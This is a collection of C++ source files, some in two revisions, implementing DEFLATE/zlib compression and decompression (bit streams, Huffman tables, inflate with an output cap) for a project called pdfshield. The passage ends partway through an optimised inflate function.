    const std::uint8_t l = lengths[sym];
    if (l > 0) out[sym] = {next[l]++, l};
  }
  return out;
}

}  // namespace pdfshield::flate
