// Raw DEFLATE decompression (RFC 1951): stored, fixed-Huffman and
// dynamic-Huffman blocks.
#pragma once

#include "support/bytes.hpp"

namespace pdfshield::flate {

/// Decompresses a raw DEFLATE stream. Throws DecodeError on malformed
/// input. `max_output` guards against decompression bombs.
support::Bytes inflate(support::BytesView compressed,
                       std::size_t max_output = 1u << 30);

}  // namespace pdfshield::flate
