#include "flate/bitstream.hpp"

namespace pdfshield::flate {

using support::DecodeError;

std::uint32_t BitReader::read_bits(int n) {
  if (n < 0 || n > 32) throw support::LogicError("BitReader::read_bits bad n");
  if (n == 0) return 0;
  return take_bits(n);
}

void BitReader::align_to_byte() {
  const int drop = nbits_ % 8;
  acc_ >>= drop;
  nbits_ -= drop;
}

support::Bytes BitReader::read_aligned_bytes(std::size_t n) {
  align_to_byte();
  support::Bytes out;
  out.reserve(n);
  // Drain buffered whole bytes first (at most 8 after alignment), then copy
  // the remainder straight from the input in one insert.
  while (n > 0 && nbits_ >= 8) {
    out.push_back(static_cast<std::uint8_t>(acc_ & 0xff));
    consume(8);
    --n;
  }
  if (n > data_.size() - pos_) throw DecodeError("stored block truncated");
  out.insert(out.end(), data_.begin() + static_cast<std::ptrdiff_t>(pos_),
             data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
  pos_ += n;
  return out;
}

void BitWriter::write_bits(std::uint32_t value, int n) {
  if (n < 0 || n > 32) throw support::LogicError("BitWriter::write_bits bad n");
  if (n == 0) return;
  const std::uint64_t masked =
      (n < 32) ? (value & ((1u << n) - 1)) : static_cast<std::uint64_t>(value);
  acc_ |= masked << nbits_;
  nbits_ += n;
  while (nbits_ >= 8) {
    out_.push_back(static_cast<std::uint8_t>(acc_ & 0xff));
    acc_ >>= 8;
    nbits_ -= 8;
  }
}

void BitWriter::write_huffman_code(std::uint32_t code, int len) {
  // Reverse the code's bit order; DEFLATE transmits Huffman codes MSB-first
  // within the LSB-first bit stream.
  std::uint32_t rev = 0;
  for (int i = 0; i < len; ++i) {
    rev = (rev << 1) | ((code >> i) & 1);
  }
  write_bits(rev, len);
}

void BitWriter::align_to_byte() {
  if (nbits_ > 0) {
    out_.push_back(static_cast<std::uint8_t>(acc_ & 0xff));
    acc_ = 0;
    nbits_ = 0;
  }
}

void BitWriter::write_aligned_bytes(support::BytesView bytes) {
  if (nbits_ != 0) throw support::LogicError("write_aligned_bytes while unaligned");
  out_.insert(out_.end(), bytes.begin(), bytes.end());
}

support::Bytes BitWriter::take() {
  align_to_byte();
  return std::move(out_);
}

}  // namespace pdfshield::flate
