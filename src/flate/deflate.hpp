// Raw DEFLATE compression. Two strategies:
//  * Stored  — no compression; used for incompressible payloads and as a
//              baseline in filter tests.
//  * Fixed   — LZ77 (hash-chain matching with one-position lazy
//              evaluation, zlib deflate_slow-style) over the fixed Huffman
//              alphabet; the common path for PDF stream encoding.
#pragma once

#include "support/bytes.hpp"

namespace pdfshield::flate {

enum class DeflateStrategy {
  kStored,
  kFixedHuffman,
};

/// Compresses `data` into a raw DEFLATE stream decodable by inflate().
support::Bytes deflate(support::BytesView data,
                       DeflateStrategy strategy = DeflateStrategy::kFixedHuffman);

}  // namespace pdfshield::flate
