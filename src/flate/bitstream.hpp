// LSB-first bit streams as used by DEFLATE (RFC 1951 §3.1.1).
#pragma once

#include <cstdint>
#include <cstring>

#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::flate {

/// Reads bits least-significant-first from a byte buffer.
///
/// Two tiers of API:
///  * `read_bits`/`read_bit` — checked reads, used for headers and other
///    cold paths.
///  * `refill` + `peek`/`buffered_bits`/`consume` — the decode fast path.
///    One `refill` buffers up to 64 bits (an 8-byte memcpy mid-stream), which
///    is enough for a whole literal/length + extra + distance + extra group
///    (at most 48 bits), so the inner inflate loop resolves each symbol
///    group from a single buffered word.
///
/// Invariant: bits of `acc_` at positions >= `nbits_` are zero, so `peek()`
/// past the end of a truncated stream reads as zero padding and the decoder
/// can detect over-consumption via `buffered_bits()` instead of reading out
/// of bounds.
class BitReader {
 public:
  explicit BitReader(support::BytesView data) : data_(data) {}

  /// Reads `n` bits (0..32). Throws DecodeError past end of input.
  std::uint32_t read_bits(int n);

  /// Reads a single bit.
  std::uint32_t read_bit() { return read_bits(1); }

  /// Discards bits up to the next byte boundary (for stored blocks).
  void align_to_byte();

  /// Reads `n` whole bytes after aligning. Throws DecodeError past end.
  support::Bytes read_aligned_bytes(std::size_t n);

  /// Bytes fully or partially consumed so far.
  std::size_t byte_position() const { return pos_; }

  bool at_end() const { return pos_ >= data_.size() && nbits_ == 0; }

  // --- decode fast path ----------------------------------------------------

  /// Tops up the accumulator to >= 57 buffered bits while input remains
  /// (a single unaligned 8-byte load mid-stream; a byte loop near the end).
  void refill() {
    if (nbits_ > 56) return;
    if (pos_ + 8 <= data_.size()) {
      std::uint64_t chunk;
      std::memcpy(&chunk, data_.data() + pos_, 8);
#if defined(__BYTE_ORDER__) && __BYTE_ORDER__ == __ORDER_BIG_ENDIAN__
      chunk = __builtin_bswap64(chunk);
#endif
      // Only whole bytes that fit above the buffered bits are committed, so
      // the zero-above-nbits_ invariant holds.
      const int nbytes = (64 - nbits_) >> 3;
      if (nbytes < 8) chunk &= (1ull << (nbytes * 8)) - 1;
      acc_ |= chunk << nbits_;
      pos_ += static_cast<std::size_t>(nbytes);
      nbits_ += nbytes * 8;
    } else {
      while (nbits_ <= 56 && pos_ < data_.size()) {
        acc_ |= static_cast<std::uint64_t>(data_[pos_++]) << nbits_;
        nbits_ += 8;
      }
    }
  }

  /// Buffered bits, zero-padded above `buffered_bits()`.
  std::uint64_t peek() const { return acc_; }

  int buffered_bits() const { return nbits_; }

  /// Drops `n` buffered bits. Caller must have verified n <= buffered_bits().
  void consume(int n) {
    acc_ >>= n;
    nbits_ -= n;
  }

  /// Checked fast read: refills if needed, throws DecodeError on truncation.
  std::uint32_t take_bits(int n) {
    if (nbits_ < n) {
      refill();
      if (nbits_ < n) throw support::DecodeError("deflate stream truncated");
    }
    const std::uint32_t v =
        static_cast<std::uint32_t>(acc_ & ((1ull << n) - 1));
    consume(n);
    return v;
  }

 private:
  support::BytesView data_;
  std::size_t pos_ = 0;
  std::uint64_t acc_ = 0;
  int nbits_ = 0;
};

/// Writes bits least-significant-first into a byte buffer.
class BitWriter {
 public:
  /// Appends the low `n` bits of `value` (LSB-first order).
  void write_bits(std::uint32_t value, int n);

  /// Writes a Huffman code: DEFLATE codes are packed MSB-first, so the
  /// `len`-bit code is bit-reversed before emission.
  void write_huffman_code(std::uint32_t code, int len);

  /// Pads with zero bits to the next byte boundary.
  void align_to_byte();

  /// Appends raw bytes; requires byte alignment.
  void write_aligned_bytes(support::BytesView bytes);

  /// Flushes any partial byte and returns the buffer.
  support::Bytes take();

  std::size_t bit_count() const { return out_.size() * 8 + static_cast<std::size_t>(nbits_); }

 private:
  support::Bytes out_;
  std::uint64_t acc_ = 0;
  int nbits_ = 0;
};

}  // namespace pdfshield::flate
