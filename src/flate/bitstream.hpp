// LSB-first bit streams as used by DEFLATE (RFC 1951 §3.1.1).
#pragma once

#include <cstdint>

#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::flate {

/// Reads bits least-significant-first from a byte buffer.
class BitReader {
 public:
  explicit BitReader(support::BytesView data) : data_(data) {}

  /// Reads `n` bits (0..32). Throws DecodeError past end of input.
  std::uint32_t read_bits(int n);

  /// Reads a single bit.
  std::uint32_t read_bit() { return read_bits(1); }

  /// Discards bits up to the next byte boundary (for stored blocks).
  void align_to_byte();

  /// Reads `n` whole bytes after aligning. Throws DecodeError past end.
  support::Bytes read_aligned_bytes(std::size_t n);

  /// Bytes fully or partially consumed so far.
  std::size_t byte_position() const { return pos_; }

  bool at_end() const { return pos_ >= data_.size() && nbits_ == 0; }

 private:
  void refill();

  support::BytesView data_;
  std::size_t pos_ = 0;
  std::uint64_t acc_ = 0;
  int nbits_ = 0;
};

/// Writes bits least-significant-first into a byte buffer.
class BitWriter {
 public:
  /// Appends the low `n` bits of `value` (LSB-first order).
  void write_bits(std::uint32_t value, int n);

  /// Writes a Huffman code: DEFLATE codes are packed MSB-first, so the
  /// `len`-bit code is bit-reversed before emission.
  void write_huffman_code(std::uint32_t code, int len);

  /// Pads with zero bits to the next byte boundary.
  void align_to_byte();

  /// Appends raw bytes; requires byte alignment.
  void write_aligned_bytes(support::BytesView bytes);

  /// Flushes any partial byte and returns the buffer.
  support::Bytes take();

  std::size_t bit_count() const { return out_.size() * 8 + static_cast<std::size_t>(nbits_); }

 private:
  support::Bytes out_;
  std::uint64_t acc_ = 0;
  int nbits_ = 0;
};

}  // namespace pdfshield::flate
