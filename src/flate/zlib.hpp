// zlib container (RFC 1950) around raw DEFLATE — the exact format PDF's
// /FlateDecode filter consumes.
#pragma once

#include "flate/deflate.hpp"
#include "support/bytes.hpp"

namespace pdfshield::flate {

/// Wraps `data` in a zlib stream (CMF/FLG header + deflate + Adler-32).
support::Bytes zlib_compress(
    support::BytesView data,
    DeflateStrategy strategy = DeflateStrategy::kFixedHuffman);

/// Unwraps and inflates a zlib stream; verifies the Adler-32 checksum.
/// Throws DecodeError on bad header, checksum mismatch or malformed body.
support::Bytes zlib_decompress(support::BytesView stream,
                               std::size_t max_output = 1u << 30);

}  // namespace pdfshield::flate
