// Canonical Huffman coding for DEFLATE: build decode tables from code
// lengths (RFC 1951 §3.2.2) and assign canonical codes for encoding.
#pragma once

#include <cstdint>
#include <vector>

#include "flate/bitstream.hpp"

namespace pdfshield::flate {

/// Table-driven decoder over a canonical Huffman code described by
/// per-symbol lengths.
///
/// Layout: a root lookup table indexed by the next `kRootBits` (9) stream
/// bits, packed as `(symbol, length)` entries. Codes longer than 9 bits
/// resolve through per-prefix secondary tables indexed by the remaining
/// `max_len - 9` bits; the root entry for such a prefix stores the
/// subtable offset and index width instead of a symbol. Every decode is
/// one or two loads from a single buffered 64-bit word — no per-bit loop.
class HuffmanDecoder {
 public:
  static constexpr int kRootBits = 9;

  /// `lengths[sym]` is the code length for symbol `sym` (0 = unused).
  /// Throws DecodeError if the lengths describe an over-subscribed code.
  explicit HuffmanDecoder(const std::vector<std::uint8_t>& lengths);

  /// Decodes the next symbol from `in`. Throws DecodeError on a code not in
  /// the table or truncated input. Never reads past the end of the input
  /// buffer: lookups beyond a truncated stream see zero padding and are
  /// rejected by the buffered-bits check before any bit is consumed.
  int decode(BitReader& in) const {
    in.refill();
    return decode_buffered(in);
  }

  /// `decode` minus the refill: callers that just refilled may decode up to
  /// three codes (3 x 15 bits <= the 57 buffered) before refilling again.
  /// Identical error behavior — after a refill that leaves < 57 bits the
  /// input is exhausted, so no later refill could have supplied the
  /// missing bits anyway.
  int decode_buffered(BitReader& in) const {
    std::uint32_t e = root_[in.peek() & (kRootSize - 1)];
    if (e & kSubFlag) {
      const int sub_bits = static_cast<int>(e & 31);
      const std::size_t off = (e >> 5) & 0x03ffffffu;
      e = sub_[off + static_cast<std::size_t>(
                         (in.peek() >> kRootBits) & ((1u << sub_bits) - 1))];
    }
    const int len = static_cast<int>(e & 31);
    if (len == 0 || len > in.buffered_bits()) throw_bad_code(in);
    in.consume(len);
    return static_cast<int>(e >> 5);
  }

  int max_length() const { return max_len_; }

 private:
  static constexpr std::uint32_t kRootSize = 1u << kRootBits;
  static constexpr std::uint32_t kSubFlag = 0x80000000u;

  [[noreturn]] static void throw_bad_code(const BitReader& in);

  // Entries pack (symbol << 5) | code_length; 0 marks an unused code.
  // Root entries with kSubFlag set pack (offset << 5) | sub_index_bits.
  std::vector<std::uint32_t> root_;
  std::vector<std::uint32_t> sub_;
  int max_len_ = 0;
};

/// One symbol's canonical code for encoding.
struct HuffmanCode {
  std::uint32_t code = 0;  ///< MSB-first canonical code value.
  std::uint8_t length = 0; ///< 0 means the symbol is unused.
};

/// Assigns canonical codes from lengths (the encoder-side dual of
/// HuffmanDecoder). Unused symbols get length 0.
std::vector<HuffmanCode> assign_canonical_codes(
    const std::vector<std::uint8_t>& lengths);

}  // namespace pdfshield::flate
