// Canonical Huffman coding for DEFLATE: build decode tables from code
// lengths (RFC 1951 §3.2.2) and assign canonical codes for encoding.
#pragma once

#include <cstdint>
#include <vector>

#include "flate/bitstream.hpp"

namespace pdfshield::flate {

/// Decoder over a canonical Huffman code described by per-symbol lengths.
class HuffmanDecoder {
 public:
  /// `lengths[sym]` is the code length for symbol `sym` (0 = unused).
  /// Throws DecodeError if the lengths describe an over-subscribed code.
  explicit HuffmanDecoder(const std::vector<std::uint8_t>& lengths);

  /// Decodes the next symbol from `in`. Throws DecodeError on a code not in
  /// the table or truncated input.
  int decode(BitReader& in) const;

  int max_length() const { return max_len_; }

 private:
  // counts_[l]  = number of codes of length l
  // offsets_[l] = index into sorted_ of the first symbol of length l
  // first_code_[l] = canonical code value of the first code of length l
  std::vector<int> counts_;
  std::vector<int> offsets_;
  std::vector<std::uint32_t> first_code_;
  std::vector<int> sorted_;
  int max_len_ = 0;
};

/// One symbol's canonical code for encoding.
struct HuffmanCode {
  std::uint32_t code = 0;  ///< MSB-first canonical code value.
  std::uint8_t length = 0; ///< 0 means the symbol is unused.
};

/// Assigns canonical codes from lengths (the encoder-side dual of
/// HuffmanDecoder). Unused symbols get length 0.
std::vector<HuffmanCode> assign_canonical_codes(
    const std::vector<std::uint8_t>& lengths);

}  // namespace pdfshield::flate
