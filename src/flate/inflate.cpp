#include "flate/inflate.hpp"

#include <array>

#include "flate/bitstream.hpp"
#include "flate/huffman.hpp"
#include "support/error.hpp"

namespace pdfshield::flate {

using support::Bytes;
using support::DecodeError;

namespace {

// RFC 1951 §3.2.5: length codes 257..285.
constexpr std::array<int, 29> kLengthBase = {
    3,  4,  5,  6,  7,  8,  9,  10, 11,  13,  15,  17,  19,  23, 27,
    31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258};
constexpr std::array<int, 29> kLengthExtra = {0, 0, 0, 0, 0, 0, 0, 0, 1, 1,
                                              1, 1, 2, 2, 2, 2, 3, 3, 3, 3,
                                              4, 4, 4, 4, 5, 5, 5, 5, 0};

// Distance codes 0..29.
constexpr std::array<int, 30> kDistBase = {
    1,    2,    3,    4,    5,    7,     9,     13,    17,   25,
    33,   49,   65,   97,   129,  193,   257,   385,   513,  769,
    1025, 1537, 2049, 3073, 4097, 6145,  8193,  12289, 16385, 24577};
constexpr std::array<int, 30> kDistExtra = {0, 0, 0,  0,  1,  1,  2,  2,  3,  3,
                                            4, 4, 5,  5,  6,  6,  7,  7,  8,  8,
                                            9, 9, 10, 10, 11, 11, 12, 12, 13, 13};

// Order in which code-length code lengths are transmitted (§3.2.7).
constexpr std::array<int, 19> kClOrder = {16, 17, 18, 0, 8,  7, 9,  6, 10, 5,
                                          11, 4,  12, 3, 13, 2, 14, 1, 15};

std::vector<std::uint8_t> fixed_literal_lengths() {
  std::vector<std::uint8_t> lens(288);
  for (int i = 0; i <= 143; ++i) lens[static_cast<std::size_t>(i)] = 8;
  for (int i = 144; i <= 255; ++i) lens[static_cast<std::size_t>(i)] = 9;
  for (int i = 256; i <= 279; ++i) lens[static_cast<std::size_t>(i)] = 7;
  for (int i = 280; i <= 287; ++i) lens[static_cast<std::size_t>(i)] = 8;
  return lens;
}

std::vector<std::uint8_t> fixed_distance_lengths() {
  return std::vector<std::uint8_t>(30, 5);
}

void inflate_block(BitReader& in, const HuffmanDecoder& lit,
                   const HuffmanDecoder* dist, Bytes& out,
                   std::size_t max_output) {
  while (true) {
    const int sym = lit.decode(in);
    if (sym == 256) return;  // end of block
    if (sym < 256) {
      if (out.size() >= max_output) throw DecodeError("inflate output limit exceeded");
      out.push_back(static_cast<std::uint8_t>(sym));
      continue;
    }
    const int li = sym - 257;
    if (li < 0 || li >= static_cast<int>(kLengthBase.size())) {
      throw DecodeError("invalid length symbol");
    }
    const int length =
        kLengthBase[static_cast<std::size_t>(li)] +
        static_cast<int>(in.read_bits(kLengthExtra[static_cast<std::size_t>(li)]));
    if (dist == nullptr) throw DecodeError("length code without distance table");
    const int dsym = dist->decode(in);
    if (dsym < 0 || dsym >= static_cast<int>(kDistBase.size())) {
      throw DecodeError("invalid distance symbol");
    }
    const std::size_t distance =
        static_cast<std::size_t>(kDistBase[static_cast<std::size_t>(dsym)]) +
        in.read_bits(kDistExtra[static_cast<std::size_t>(dsym)]);
    if (distance > out.size()) throw DecodeError("distance beyond window start");
    if (out.size() + static_cast<std::size_t>(length) > max_output) {
      throw DecodeError("inflate output limit exceeded");
    }
    // Byte-at-a-time copy: overlapping copies (distance < length) must
    // replicate the just-written bytes, which this does naturally.
    std::size_t from = out.size() - distance;
    for (int i = 0; i < length; ++i) out.push_back(out[from + static_cast<std::size_t>(i)]);
  }
}

void inflate_dynamic(BitReader& in, Bytes& out, std::size_t max_output) {
  const int hlit = static_cast<int>(in.read_bits(5)) + 257;
  const int hdist = static_cast<int>(in.read_bits(5)) + 1;
  const int hclen = static_cast<int>(in.read_bits(4)) + 4;

  std::vector<std::uint8_t> cl_lengths(19, 0);
  for (int i = 0; i < hclen; ++i) {
    cl_lengths[static_cast<std::size_t>(kClOrder[static_cast<std::size_t>(i)])] =
        static_cast<std::uint8_t>(in.read_bits(3));
  }
  const HuffmanDecoder cl_decoder(cl_lengths);

  std::vector<std::uint8_t> lengths;
  lengths.reserve(static_cast<std::size_t>(hlit + hdist));
  while (lengths.size() < static_cast<std::size_t>(hlit + hdist)) {
    const int sym = cl_decoder.decode(in);
    if (sym < 16) {
      lengths.push_back(static_cast<std::uint8_t>(sym));
    } else if (sym == 16) {
      if (lengths.empty()) throw DecodeError("repeat with no previous length");
      const int count = 3 + static_cast<int>(in.read_bits(2));
      for (int i = 0; i < count; ++i) lengths.push_back(lengths.back());
    } else if (sym == 17) {
      const int count = 3 + static_cast<int>(in.read_bits(3));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    } else {  // 18
      const int count = 11 + static_cast<int>(in.read_bits(7));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    }
  }
  if (lengths.size() != static_cast<std::size_t>(hlit + hdist)) {
    throw DecodeError("code length run overflows table");
  }

  std::vector<std::uint8_t> lit_lengths(lengths.begin(),
                                        lengths.begin() + hlit);
  std::vector<std::uint8_t> dist_lengths(lengths.begin() + hlit, lengths.end());
  const HuffmanDecoder lit(lit_lengths);
  // A block can legitimately have no distance codes (all literals): a single
  // 0-length entry signals that.
  bool has_dist = false;
  for (std::uint8_t l : dist_lengths) {
    if (l > 0) has_dist = true;
  }
  if (has_dist) {
    const HuffmanDecoder dist(dist_lengths);
    inflate_block(in, lit, &dist, out, max_output);
  } else {
    inflate_block(in, lit, nullptr, out, max_output);
  }
}

}  // namespace

Bytes inflate(support::BytesView compressed, std::size_t max_output) {
  BitReader in(compressed);
  Bytes out;
  bool final_block = false;
  while (!final_block) {
    final_block = in.read_bit() != 0;
    const std::uint32_t type = in.read_bits(2);
    switch (type) {
      case 0: {  // stored
        in.align_to_byte();
        const std::uint32_t len = in.read_bits(16);
        const std::uint32_t nlen = in.read_bits(16);
        if ((len ^ 0xffffu) != nlen) throw DecodeError("stored block LEN/NLEN mismatch");
        if (out.size() + len > max_output) throw DecodeError("inflate output limit exceeded");
        Bytes raw = in.read_aligned_bytes(len);
        out.insert(out.end(), raw.begin(), raw.end());
        break;
      }
      case 1: {  // fixed Huffman
        // Intentionally immortal (never destroyed): a batch-scan worker
        // abandoned by the per-document watchdog may still be inflating
        // while the process exits, and must not race the exit-time
        // destructor of a function-local static. Stays reachable, so
        // leak checkers do not flag it.
        static const HuffmanDecoder* const lit =
            new HuffmanDecoder(fixed_literal_lengths());
        static const HuffmanDecoder* const dist =
            new HuffmanDecoder(fixed_distance_lengths());
        inflate_block(in, *lit, dist, out, max_output);
        break;
      }
      case 2:  // dynamic Huffman
        inflate_dynamic(in, out, max_output);
        break;
      default:
        throw DecodeError("reserved deflate block type");
    }
  }
  return out;
}

}  // namespace pdfshield::flate
