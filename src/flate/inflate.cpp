#include "flate/inflate.hpp"

#include <array>
#include <cstring>

#include "flate/bitstream.hpp"
#include "flate/huffman.hpp"
#include "support/error.hpp"

namespace pdfshield::flate {

using support::Bytes;
using support::DecodeError;

namespace {

// RFC 1951 §3.2.5: length codes 257..285.
constexpr std::array<int, 29> kLengthBase = {
    3,  4,  5,  6,  7,  8,  9,  10, 11,  13,  15,  17,  19,  23, 27,
    31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258};
constexpr std::array<int, 29> kLengthExtra = {0, 0, 0, 0, 0, 0, 0, 0, 1, 1,
                                              1, 1, 2, 2, 2, 2, 3, 3, 3, 3,
                                              4, 4, 4, 4, 5, 5, 5, 5, 0};

// Distance codes 0..29.
constexpr std::array<int, 30> kDistBase = {
    1,    2,    3,    4,    5,    7,     9,     13,    17,   25,
    33,   49,   65,   97,   129,  193,   257,   385,   513,  769,
    1025, 1537, 2049, 3073, 4097, 6145,  8193,  12289, 16385, 24577};
constexpr std::array<int, 30> kDistExtra = {0, 0, 0,  0,  1,  1,  2,  2,  3,  3,
                                            4, 4, 5,  5,  6,  6,  7,  7,  8,  8,
                                            9, 9, 10, 10, 11, 11, 12, 12, 13, 13};

// Order in which code-length code lengths are transmitted (§3.2.7).
constexpr std::array<int, 19> kClOrder = {16, 17, 18, 0, 8,  7, 9,  6, 10, 5,
                                          11, 4,  12, 3, 13, 2, 14, 1, 15};

std::vector<std::uint8_t> fixed_literal_lengths() {
  std::vector<std::uint8_t> lens(288);
  for (int i = 0; i <= 143; ++i) lens[static_cast<std::size_t>(i)] = 8;
  for (int i = 144; i <= 255; ++i) lens[static_cast<std::size_t>(i)] = 9;
  for (int i = 256; i <= 279; ++i) lens[static_cast<std::size_t>(i)] = 7;
  for (int i = 280; i <= 287; ++i) lens[static_cast<std::size_t>(i)] = 8;
  return lens;
}

std::vector<std::uint8_t> fixed_distance_lengths() {
  return std::vector<std::uint8_t>(30, 5);
}

/// Growable decode buffer with a hard output cap. Tracks the logical length
/// separately from the vector size so the hot loop appends through raw
/// pointers without per-byte vector bookkeeping; `take()` trims to the
/// logical length at the end.
class OutputSink {
 public:
  explicit OutputSink(std::size_t max_output, std::size_t size_hint)
      : max_(max_output) {
    buf_.resize(std::min(max_output, std::max<std::size_t>(size_hint, 256)));
    sync_limit();
  }

  std::size_t size() const { return len_; }

  void put(std::uint8_t b) {
    if (len_ >= limit_) grow(1);
    buf_[len_++] = b;
  }

  // Raw-pointer window for the literal hot loop: the caller writes through
  // head() for at most slack() bytes, then reports how many with advance().
  // Pointers are invalidated by any growing call (put/append/copy_match).
  std::uint8_t* head() { return buf_.data() + len_; }
  std::size_t slack() const { return limit_ - len_; }
  void advance(std::size_t n) { len_ += n; }

  void append(const std::uint8_t* p, std::size_t n) {
    if (n == 0) return;  // empty stored block; p may be null
    if (len_ + n > limit_) grow(n);
    std::memcpy(buf_.data() + len_, p, n);
    len_ += n;
  }

  /// Replicates `len` bytes starting `dist` bytes back from the write head.
  /// Caller must have validated `dist <= size()`.
  void copy_match(std::size_t dist, std::size_t len) {
    if (len_ + len > limit_) grow(len);
    std::uint8_t* dst = buf_.data() + len_;
    const std::uint8_t* src = dst - dist;
    len_ += len;
    // Fast path: with >= 32 bytes of slack beyond the match, copy in wide
    // fixed-size chunks that overshoot `len`. The logical length still
    // advances by exactly `len`; overshoot bytes land beyond the write
    // head, inside the buffer, and are overwritten by later output or
    // trimmed by take(). Each chunk reads data at least one full chunk
    // behind the write point, so overlapping back-references replicate
    // correctly. memcpy of a constant 16/32 compiles to unaligned vector
    // moves — this is where LZ77 copy bandwidth comes from.
    if (limit_ - len_ >= 32) {
      if (dist >= 32) {
        std::size_t n = 0;
        do {
          std::memcpy(dst + n, src + n, 32);
          n += 32;
        } while (n < len);
        return;
      }
      if (dist >= 16) {
        std::size_t n = 0;
        do {
          std::memcpy(dst + n, src + n, 16);
          n += 16;
        } while (n < len);
        return;
      }
      if (dist >= 8) {
        std::size_t n = 0;
        do {
          std::memcpy(dst + n, src + n, 8);
          n += 8;
        } while (n < len);
        return;
      }
      if (dist == 1) {
        std::memset(dst, *src, len);  // RLE run, the common short-dist case
        return;
      }
      // dist 2..7: fall through to the exact periodic copy below.
    } else if (dist >= len) {
      // Careful path (within 32 bytes of the output cap): exact sizes only.
      std::memcpy(dst, src, len);
      return;
    }
    // Overlapping back-reference: the output is periodic in `dist`. Copy in
    // doubling chunks from the fixed pattern start — O(log(len/dist))
    // memcpys, each reading only already-written bytes.
    std::size_t avail = dist;
    while (len > 0) {
      const std::size_t n = std::min(avail, len);
      std::memcpy(dst, src, n);
      dst += n;
      len -= n;
      avail *= 2;
    }
  }

  Bytes take() {
    buf_.resize(len_);
    return std::move(buf_);
  }

 private:
  void grow(std::size_t need) {
    if (len_ + need > max_) throw DecodeError("inflate output limit exceeded");
    std::size_t target = std::max(buf_.size() * 2, len_ + need);
    buf_.resize(std::min(target, max_));
    sync_limit();
  }

  void sync_limit() { limit_ = std::min(buf_.size(), max_); }

  Bytes buf_;
  std::size_t len_ = 0;
  std::size_t max_;
  std::size_t limit_ = 0;
};

void inflate_block(BitReader& in, const HuffmanDecoder& lit,
                   const HuffmanDecoder* dist, OutputSink& out) {
  while (true) {
    // Literal burst: write decoded literals straight through a raw pointer
    // into the sink's spare capacity, re-synchronizing only at a match,
    // end-of-block, or window exhaustion. This drops the per-byte bounds
    // check and length bookkeeping from the dominant literal path.
    std::uint8_t* const start = out.head();
    std::uint8_t* const end = start + out.slack();
    std::uint8_t* dst = start;
    int sym;
    for (;;) {
      // One refill buffers >= 57 bits mid-stream — enough for the longest
      // literal/length code + extra bits + distance code + extra bits
      // (15 + 5 + 15 + 13 = 48) of the match path, and for three
      // max-length (15-bit) literal codes. Decoding literals in bursts of
      // three amortizes the refill's unaligned load to once per burst.
      in.refill();
      sym = lit.decode_buffered(in);
      if (sym >= 256 || dst >= end) break;
      *dst++ = static_cast<std::uint8_t>(sym);
      sym = lit.decode_buffered(in);
      if (sym >= 256 || dst >= end) break;
      *dst++ = static_cast<std::uint8_t>(sym);
      sym = lit.decode_buffered(in);
      if (sym >= 256 || dst >= end) break;
      *dst++ = static_cast<std::uint8_t>(sym);
    }
    out.advance(static_cast<std::size_t>(dst - start));
    if (sym < 256) {
      // Window filled mid-burst: the slow put grows (or reports the output
      // cap) and the outer loop re-opens a fresh window.
      out.put(static_cast<std::uint8_t>(sym));
      continue;
    }
    if (sym == 256) return;  // end of block
    const int li = sym - 257;
    if (li >= static_cast<int>(kLengthBase.size())) {
      throw DecodeError("invalid length symbol");
    }
    // One refill covers the whole rest of the match group — length extra +
    // distance code + distance extra is at most 5 + 15 + 13 = 33 bits — so
    // the take_bits/decode calls below resolve from the buffered word.
    in.refill();
    const std::size_t length = static_cast<std::size_t>(
        kLengthBase[static_cast<std::size_t>(li)] +
        static_cast<int>(in.take_bits(kLengthExtra[static_cast<std::size_t>(li)])));
    if (dist == nullptr) throw DecodeError("length code without distance table");
    const int dsym = dist->decode_buffered(in);
    if (dsym >= static_cast<int>(kDistBase.size())) {
      throw DecodeError("invalid distance symbol");
    }
    const std::size_t distance =
        static_cast<std::size_t>(kDistBase[static_cast<std::size_t>(dsym)]) +
        in.take_bits(kDistExtra[static_cast<std::size_t>(dsym)]);
    if (distance > out.size()) throw DecodeError("distance beyond window start");
    out.copy_match(distance, length);
  }
}

void inflate_dynamic(BitReader& in, OutputSink& out) {
  const int hlit = static_cast<int>(in.read_bits(5)) + 257;
  const int hdist = static_cast<int>(in.read_bits(5)) + 1;
  const int hclen = static_cast<int>(in.read_bits(4)) + 4;

  std::vector<std::uint8_t> cl_lengths(19, 0);
  for (int i = 0; i < hclen; ++i) {
    cl_lengths[static_cast<std::size_t>(kClOrder[static_cast<std::size_t>(i)])] =
        static_cast<std::uint8_t>(in.read_bits(3));
  }
  const HuffmanDecoder cl_decoder(cl_lengths);

  std::vector<std::uint8_t> lengths;
  lengths.reserve(static_cast<std::size_t>(hlit + hdist));
  while (lengths.size() < static_cast<std::size_t>(hlit + hdist)) {
    const int sym = cl_decoder.decode(in);
    if (sym < 16) {
      lengths.push_back(static_cast<std::uint8_t>(sym));
    } else if (sym == 16) {
      if (lengths.empty()) throw DecodeError("repeat with no previous length");
      const int count = 3 + static_cast<int>(in.read_bits(2));
      for (int i = 0; i < count; ++i) lengths.push_back(lengths.back());
    } else if (sym == 17) {
      const int count = 3 + static_cast<int>(in.read_bits(3));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    } else {  // 18
      const int count = 11 + static_cast<int>(in.read_bits(7));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    }
  }
  if (lengths.size() != static_cast<std::size_t>(hlit + hdist)) {
    throw DecodeError("code length run overflows table");
  }

  std::vector<std::uint8_t> lit_lengths(lengths.begin(),
                                        lengths.begin() + hlit);
  std::vector<std::uint8_t> dist_lengths(lengths.begin() + hlit, lengths.end());
  const HuffmanDecoder lit(lit_lengths);
  // A block can legitimately have no distance codes (all literals): a single
  // 0-length entry signals that.
  bool has_dist = false;
  for (std::uint8_t l : dist_lengths) {
    if (l > 0) has_dist = true;
  }
  if (has_dist) {
    const HuffmanDecoder dist(dist_lengths);
    inflate_block(in, lit, &dist, out);
  } else {
    inflate_block(in, lit, nullptr, out);
  }
}

}  // namespace

Bytes inflate(support::BytesView compressed, std::size_t max_output) {
  BitReader in(compressed);
  // Typical PDF streams inflate to 2-4x their packed size; the sink grows
  // geometrically past the hint and trims on take().
  OutputSink out(max_output, compressed.size() * 3);
